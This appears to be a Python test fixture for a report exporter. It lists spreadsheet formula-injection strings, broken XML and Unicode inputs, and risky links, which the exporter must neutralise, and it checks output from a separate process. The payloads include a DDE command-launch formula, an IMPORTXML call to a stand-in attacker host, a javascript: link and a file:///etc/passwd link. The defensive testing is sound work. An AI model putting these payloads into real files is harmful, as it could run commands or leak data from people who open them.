"""Texts that a spreadsheet might run, or that break a file, and what two processes must agree on."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from core.report import Column, Holds, Row
from tests.reports import sample

FORMULAS = (
    *sample.FORMULA_LIKE, "=cmd|' /C calc'!A0", "  =1+1", "\u00a0=1+1", "\n=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=IMPORTXML("http://evil.example";"//a")', "-2+3+cmd|' /C calc'!A0", '=1+1"; =2+2',
)  # fmt: skip
"""Each must be text wherever it arrives."""
ODD = (
    "<r><t>x</t></r>", "<r>", "_x0041_", "half \ud83d emoji", "a\x00b\x0bc\x1f", "\ufffe\uffff", "]]>&amp;<!--", "a\r\nb",
    'say "hello", twice', "", " ", "'", "a;b\tc", "{=1}", "🚀 👩‍🔬 🇩🇪", "x" * 40_000,
)  # fmt: skip
"""Each must leave the file readable."""
COLUMNS = (Column("=1+1"), Column("Views", Holds.COUNT), Column("@Link", Holds.LINK))
LINKS = ("javascript:alert(1)", "file:///etc/passwd", "https://example.com/?a=1&b=\u00fc", "=1+1", "internal:About!A1")


def rows() -> list[Row]:
    """All of them, beside a negative number, which stays one, and a link, of which few are followed."""
    texts = (*FORMULAS, *ODD)
    return [(text, -5 - at, LINKS[at % len(LINKS)]) for at, text in enumerate(texts)]


def elsewhere(module: str, folder: Path) -> bytes:
    """The sample document as a format writes it in another process, in another zone, with another seed for hashes."""
    out = folder / "elsewhere"
    code = (
        f"from reports.formats.{module} import FORMAT\nfrom core import language\nfrom tests.reports import sample\n"
        "from charts import picture\n"
        "draw = lambda spec, kind, *, width: picture.draw(spec, kind, width=width)\n"
        f"with language.using('en'), open({str(out)!r}, 'wb') as file: FORMAT.write(sample.document(), draw, file)\n"
    )
    environment = {**os.environ, "TZ": "Pacific/Auckland", "PYTHONHASHSEED": "7", "OMP_NUM_THREADS": "1"}
    root = Path(__file__).resolve().parents[2]
    subprocess.run([sys.executable, "-c", code], check=True, env=environment, cwd=root, timeout=240)
    return out.read_bytes()
